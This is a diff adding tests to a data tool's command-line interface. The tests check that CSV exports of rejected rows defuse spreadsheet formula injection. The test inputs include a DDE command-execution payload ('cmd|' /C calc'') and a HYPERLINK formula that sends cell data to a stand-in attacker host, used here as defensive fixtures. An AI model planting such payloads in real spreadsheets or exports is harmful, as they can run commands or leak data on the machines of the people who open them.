@@ -20,6 +20,7 @@ from local.flows import write_flows
 import lume_local
 from lume_cli._output.short_ids import short
 from lume_cli._work.rejects.corrected import Corrected
+from lume_cli._work.rejects.rejected_rows import defused
 from lume_sync import Client, LumeRun
 
 EUROPEAN = """
@@ -58,6 +59,51 @@ def test_a_table_with_the_reasons(shell: Shell, run: LumeRun) -> None:
     assert len(rows) == 3
     assert "Jörg" in rows[0]
     assert "a;b" in rows[2]
+
+
+@pytest.mark.parametrize(
+    ("text", "shown"),
+    [
+        *(
+            (text, f"'{text}")
+            for text in (
+                "=1+1",
+                "+1+1",
+                "-1-1",
+                "@SUM(A1)",
+                "=",
+                "-",
+                "\t=1",
+                "\r=1",
+                "-2+3+cmd|' /C calc'!A0",
+            )
+        ),
+        *((text, text) for text in ("", None, "a=1", "-5", "+5.5", "-,5", "-1e-9", "1", " =1", "x-1")),
+    ],
+)
+def test_what_a_spreadsheet_takes_for_a_formula(text: str | None, shown: str | None) -> None:
+    assert defused(text) == shown
+
+
+def test_rejects_without_formulas(
+    shell: Shell, client: Client, home: Path, source: Callable[..., str]
+) -> None:
+    write_flows(home / "flows")
+    content = (
+        'id,Email,Age\n1,"=HYPERLINK(""http://evil.example?""&A1)",-5\n2,+cmd,-7\n3,ann@example.org,30\n'
+    )
+    (home / (name := source(content))).write_text(content)
+    rejected = client.run("people:v1", name).wait(15)
+    kept, safe = (
+        shell.lume("rejects", short(rejected.id), "-o", "csv", *more).out for more in ([], ["--no-formulas"])
+    )
+    assert [row["Email"] for row in csv.DictReader(kept.splitlines())][1] == "+cmd"
+    rows = list(csv.DictReader(safe.splitlines()))
+    assert [(row["Email"], row["Age"]) for row in rows] == [
+        ('\'=HYPERLINK("http://evil.example?"&A1)', "-5"),
+        ("'+cmd", "-7"),
+    ]
+    assert "--no-formulas needs -o csv" in shell.lume("rejects", short(rejected.id), "--no-formulas").err
 
 
 def test_reason_and_limit(shell: Shell, run: LumeRun) -> None:
